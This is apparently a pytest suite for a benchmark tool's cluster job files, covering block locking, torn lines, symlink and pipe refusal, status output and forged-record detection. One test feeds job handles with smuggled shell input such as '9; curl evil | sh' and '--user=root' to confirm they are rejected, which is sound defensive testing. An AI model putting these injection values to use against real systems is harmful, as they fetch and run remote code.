"""Job files: claims that two processes cannot both have, torn lines, and what `attnbench status` says of them."""

import json
import os
import subprocess
import sys
import time
from dataclasses import replace
from pathlib import Path

import pytest
import torch
from typer.testing import CliRunner

from attnbench.bench.cli.app import app
from attnbench.bench.core.cell import Cell
from attnbench.bench.core.errors import StoreError
from attnbench.bench.core.record import Machine, Outcome, Record
from attnbench.bench.core.spec import Spec
from attnbench.bench.plan.options import options_of
from attnbench.bench.run.events import CellFinished, Event, JobStarted, RunListener, Stage, TrainingProgress
from attnbench.bench.run.executors.engines import status_of
from attnbench.bench.run.runner import Runner
from attnbench.bench.store.store import Store
from attnbench.bench.wings.clusters import job_files
from attnbench.bench.wings.clusters.job_files import JobFiles, Submission

MACHINE = Machine(id="m", system="s", processor="p", cores=2, threads=1, memory_bytes=1)
BLOCK = "0123456789abcdef"
SUBMITTED = Submission(block=BLOCK, lane="train", cells={"k": "rela on t"}, executor="ray",
                       submitted="2026-01-01T00:00:00+00:00", seconds=60.0)  # fmt: skip


def record(outcome: Outcome = Outcome.OK) -> Record:
    cell = Cell(variant=Spec("rela"), task=Spec("t"), preset=Spec("smoke"))
    return Record(cell=cell, outcome=outcome, machine=MACHINE, block=BLOCK)


def write(files: JobFiles, *events: Event) -> None:
    log = files.claim(BLOCK)
    assert log is not None
    for event in events:
        log.append(event)
    log.close()


def test_one_process_alone_has_a_block(tmp_path: Path) -> None:
    files = JobFiles(tmp_path)
    log = files.claim(BLOCK)
    assert log is not None and files.is_running(BLOCK)
    script = f"""
import sys; from pathlib import Path; from attnbench.bench.wings.clusters.job_files import JobFiles
sys.exit(JobFiles(Path(sys.argv[1])).claim({BLOCK!r}) is not None)
"""
    subprocess.run([sys.executable, "-c", script, str(tmp_path)], check=True)
    log.close()
    assert not files.is_running(BLOCK)
    assert subprocess.run([sys.executable, "-c", script, str(tmp_path)]).returncode == 1


def test_half_a_line_of_a_process_that_died_spoils_no_other(tmp_path: Path) -> None:
    files = JobFiles(tmp_path)
    write(files, Stage("k", "test"))
    path = tmp_path / "jobs" / f"{BLOCK}.events"
    with path.open("ab") as file:
        file.write(b'{"event": "rec')
    read, end = files.events(BLOCK)
    assert len(read) == 1 and end < path.stat().st_size
    write(files, CellFinished(record()))
    assert files.events(BLOCK, end)[0] == [CellFinished(record())]


def test_progress_is_written_now_and_then_and_a_record_always(tmp_path: Path) -> None:
    files = JobFiles(tmp_path)
    steps = [TrainingProgress("k", done, 100, "accuracy") for done in range(100)]
    write(files, *steps, CellFinished(record()))
    assert files.events(BLOCK)[0] == [steps[0], CellFinished(record())]


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"[]",
        b'{"block": 3}',
        b'{"block": "0123456789abcdef"',
        b'{"block": "ffffffffff"}',
        *(
            b'{"block":"0123456789abcdef","lane":"train","cells":{},"executor":"slurm","handle":"%s"}' % handle
            for handle in (b"--user=root", b"9; curl evil | sh", "²".encode(), b"1_", b"1\\n", b"-1")
        ),
        b"\xff\xfe",
        b"[" * 10**5,
    ],
)
def test_what_is_no_submission_is_passed_over(tmp_path: Path, content: bytes) -> None:
    files = JobFiles(tmp_path)
    files.submit(SUBMITTED)
    assert files.submissions() == [SUBMITTED]
    (tmp_path / "jobs" / f"{BLOCK}.json").write_bytes(content)
    assert files.submissions() == [] and status_of(tmp_path).jobs == ()


def test_events_that_are_a_link_or_a_pipe_are_not_read(tmp_path: Path) -> None:
    files = JobFiles(tmp_path)
    (tmp_path / "jobs").mkdir()
    path = tmp_path / "jobs" / f"{BLOCK}.events"
    path.symlink_to("/dev/zero")
    assert files.events(BLOCK) == ([], 0) and not files.is_running(BLOCK)
    path.unlink()
    os.mkfifo(path)
    assert files.events(BLOCK) == ([], 0) and not files.is_running(BLOCK)


def test_a_link_to_another_folder_is_neither_written_nor_swept(tmp_path: Path) -> None:
    other = JobFiles(tmp_path / "other")
    other.submit(replace(SUBMITTED, ended="2026-01-01T00:00:00+00:00"))
    write(other, Stage("k", "test"))
    before = {path: path.read_bytes() for path in other.folder.iterdir()}
    (tmp_path / "r").mkdir()
    (tmp_path / "r" / "jobs").symlink_to(other.folder)
    files = JobFiles(tmp_path / "r")
    files.forget_ended("ray")
    assert files.submissions() == [] and files.blocks_with_events() == []
    with pytest.raises(StoreError, match="a link"), files.submitting():
        pass
    for writing in (lambda: files.submit(SUBMITTED), lambda: files.claim("fedcba9876543210")):
        with pytest.raises(StoreError, match="a link"):
            writing()
    assert {path: path.read_bytes() for path in other.folder.iterdir()} == before


def test_status_tells_what_is_queued_runs_and_has_ended(tmp_path: Path) -> None:
    files = JobFiles(tmp_path)
    with files.submitting():
        files.submit(SUBMITTED)
        (block,) = status_of(tmp_path).jobs
        assert (block.state, block.left, block.node) == ("queued", 60.0, "")
        log = files.claim(BLOCK)
        assert log is not None
        log.append(JobStarted(MACHINE, "node-7", "cpu", time.time() - 20))
        log.append(TrainingProgress("k", 25, 100, "accuracy"))
        found = status_of(tmp_path)
        (block,) = found.jobs
        assert (block.state, block.node, block.done, block.steps) == ("running", "node-7", 25, 100)
        assert block.left is not None and block.left > 0 and found.submitting
        log.close()
        assert [each.state for each in status_of(tmp_path).jobs] == ["interrupted"]
        files.end(BLOCK, {"ok": 1})
        (block,) = status_of(tmp_path).jobs
        assert (block.state, block.node, block.outcomes) == ("done", "node-7", {"ok": 1})
        files.forget_ended("ray")
        assert len(status_of(tmp_path).jobs) == 1
    # the next run starts with an empty list
    files.forget_ended("ray")
    assert status_of(tmp_path).jobs == ()


def test_what_nobody_submits_any_more_is_interrupted_unless_slurm_has_it(tmp_path: Path) -> None:
    files = JobFiles(tmp_path)
    files.submit(SUBMITTED)
    files.submit(replace(SUBMITTED, block="fedcba9876543210", executor="slurm", handle="12_3"))
    assert {each.executor: each.state for each in status_of(tmp_path).jobs} == {
        "ray": "interrupted", "slurm": "queued",
    }  # fmt: skip


def test_a_clock_that_was_set_back_leaves_no_negative_times(tmp_path: Path) -> None:
    files = JobFiles(tmp_path)
    files.submit(SUBMITTED)
    log = files.claim(BLOCK)
    assert log is not None
    log.append(JobStarted(MACHINE, time=time.time() + 86_400))
    log._written = -1e9
    log.append(TrainingProgress("k", 3, 10, "accuracy"))
    (job,) = status_of(tmp_path).jobs
    assert job.state == "running" and job.left == 0.0
    log.close()


def test_a_job_whose_records_are_all_stored_has_ended(tmp_path: Path) -> None:
    files, found = JobFiles(tmp_path), record()
    files.submit(replace(SUBMITTED, cells={found.key: str(found.cell)}))
    write(files, JobStarted(MACHINE), CellFinished(found))
    assert [job.state for job in status_of(tmp_path).jobs] == ["interrupted"]
    Store(tmp_path).append(found)
    (job,) = status_of(tmp_path).jobs
    assert job.state == "done" and job.outcomes == {"ok": 1}


def test_events_are_read_within_a_bound(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    files = JobFiles(tmp_path)
    write(files, *[Stage("k", "test")] * 100)
    monkeypatch.setattr(job_files, "_MOST_EVENTS", 1000)
    found, end = files.events(BLOCK)
    assert 10 < len(found) < 100 and 1000 <= end < 1100
    assert len(found) + len(files.events(BLOCK, end)[0]) > len(found)


def test_the_command_shows_text_of_others_as_it_stands(tmp_path: Path) -> None:
    JobFiles(tmp_path).submit(replace(SUBMITTED, cells={"k": "a\x1b[2Jb\nc"}))
    shown = CliRunner().invoke(app, ["status", "--results", str(tmp_path)])
    assert shown.exit_code == 0 and "\x1b" not in shown.output and "\nc" not in shown.output
    answer = json.loads(CliRunner().invoke(app, ["status", "--json", "--results", str(tmp_path)]).output)
    assert answer["jobs"][0]["state"] == "interrupted" and answer["submitting"] is False
    before = sorted(path.stat().st_mtime_ns for path in tmp_path.rglob("*"))
    CliRunner().invoke(app, ["status", "--results", str(tmp_path)])
    assert sorted(path.stat().st_mtime_ns for path in tmp_path.rglob("*")) == before
    nothing = CliRunner().invoke(app, ["status", "--results", str(tmp_path / "none")])
    assert "no folder" in str(nothing.exception) and not (tmp_path / "none").exists()


def test_records_of_cells_that_nobody_submitted_are_named_and_not_stored(tmp_path: Path) -> None:
    """Whoever may write in the folder may write events there."""
    machine = Machine(id="m", system="s", processor="p", cores=1, threads=1, memory_bytes=1)
    block, others = "0123456789abcdef", "abcdef0123456789"
    records = [
        Record(cell=Cell(variant=Spec(name), task=Spec("t"), preset=Spec("smoke")), outcome=Outcome.OK,
               machine=machine, digest="a-b-c", block=block)
        for name in ("rela", "forged")
    ]  # fmt: skip
    files = JobFiles(tmp_path)
    files.submit(Submission(block=block, lane="train", cells={records[0].key: "rela on t"}, executor="slurm"))
    for each, made in ((block, records), (others, [replace(records[1], block=others)])):
        log = files.claim(each)
        assert log is not None
        for record in made:
            log.append(CellFinished(record))
        log.close()
    told: list[str] = []
    options = options_of(
        "rela", "recall", preset="smoke", results=tmp_path, device="cpu", threads=torch.get_num_threads()
    )
    listener = RunListener()
    listener.notice = told.append  # type: ignore[method-assign]
    runner = Runner(options=options, listener=listener)
    runner.plan(fetch=True)
    assert list(runner.store.records()) == records[:1]
    told = [text for text in told if ".events" in text]
    assert len(told) == 2 and all("`forged on t" in text for text in told)
    assert [submission.ended != "" for submission in files.submissions()] == [True]
